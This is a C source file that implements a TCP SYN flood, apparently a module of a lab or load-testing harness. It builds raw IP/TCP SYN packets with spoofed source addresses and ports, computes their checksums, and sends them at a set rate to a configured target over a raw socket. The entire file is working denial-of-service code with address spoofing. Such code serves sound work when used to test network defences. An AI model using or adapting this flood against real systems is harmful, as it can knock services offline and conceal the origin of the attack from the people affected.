/* SPDX-License-Identifier: MIT */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lab/work_odd.h"

enum { SOURCE_BASE = 0x0a4e0001 /* 10.78.0.1 */, SOURCES_MAX = 60000, FIRST_PORT = 1024 };

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum(const void *p, size_t len, uint32_t so_far)
{
	const uint8_t *b = p;

	for (size_t i = 0; i < len; i += 2)
		so_far += (uint32_t)b[i] << 8 | b[i + 1];
	return so_far;
}

/* RFC 9293 3.1: of the segment, both addresses, the protocol and the length. */
static uint16_t checksum(const struct syn *s)
{
	uint32_t c = sum(&s->tcp, sizeof(s->tcp), sum(&s->ip.saddr, 8, IPPROTO_TCP + sizeof(s->tcp)));

	while (c >> 16)
		c = (c & 0xffff) + (c >> 16);
	return htons((uint16_t)~c);
}

/* The kernel fills in the checksum and the length of the IP header (raw(7)). */
static struct syn syn_from(uint32_t nth, struct in_addr dst, uint16_t dport)
{
	struct syn s;

	memset(&s, 0, sizeof(s));
	s.ip.version = 4;
	s.ip.ihl = sizeof(s.ip) / 4;
	s.ip.ttl = 64;
	s.ip.protocol = IPPROTO_TCP;
	s.ip.saddr = htonl(SOURCE_BASE + nth);
	s.ip.daddr = dst.s_addr;
	s.tcp.source = htons((uint16_t)(FIRST_PORT + nth));
	s.tcp.dest = htons(dport);
	s.tcp.seq = htonl(nth * 64000);
	s.tcp.doff = sizeof(s.tcp) / 4;
	s.tcp.syn = 1;
	s.tcp.window = htons(64000);
	s.tcp.check = checksum(&s);
	return s;
}

static void flood(struct work *w, const struct flood_cfg *cfg, int fd)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	nsec_t began_at = work_now();

	if (inet_pton(AF_INET, cfg->dst, &to.sin_addr) != 1)
		return;
	for (uint32_t i = 0; i < cfg->count; i++) {
		struct syn s = syn_from(i, to.sin_addr, cfg->dport);

		if (!work_sleep_until(w, began_at + i * NSEC_PER_S / cfg->per_s))
			return;
		if (sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)sizeof(s)) {
			w->stats->opened++;
		} else {
			w->stats->failed++;
			w->stats->last_errno = errno;
		}
	}
}

void work_flood(struct work *w, const void *flood_cfg)
{
	const struct flood_cfg *cfg = flood_cfg;
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	must(cfg->count <= SOURCES_MAX);
	must(cfg->per_s > 0);
	if (fd < 0) {
		work_say(w, EV_ERROR, errno);
		return;
	}
	work_say(w, EV_READY, 0);
	if (cfg->wait_go)
		work_await_go(w);
	flood(w, cfg, fd);
	close(fd);
}
